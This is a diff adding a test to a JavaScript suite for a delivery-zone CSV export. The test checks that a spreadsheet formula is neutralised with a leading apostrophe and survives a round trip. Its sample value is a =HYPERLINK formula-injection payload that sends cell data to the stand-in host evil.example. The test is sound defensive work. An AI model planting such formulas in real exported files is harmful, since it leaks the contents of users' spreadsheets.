@@ -330,6 +330,20 @@ describe('the delivery CSV', () => {
     });
   });
 
+  it('writes a zone a spreadsheet would run with an apostrophe first, and reads it back exactly', async () => {
+    const zone = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const created = await admin('POST', '', range({ pincode_from: '880001', pincode_to: '880009', zone }));
+    expect(created.status).toBe(201);
+    const before = await exported();
+    expect(before).toContain(`880001,880009,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
+    expect(before).not.toContain(`,"=HYPERLINK(`);
+
+    const roundTrip = await post(before);
+    expect(roundTrip.statusCode).toBe(200);
+    expect((await lookup('880005')).body.data).toMatchObject({ zone });
+    expect(await exported()).toBe(before);
+  });
+
   it('writes nothing when any row is wrong, and names each row and column', async () => {
     const before = await exported();
     const file =
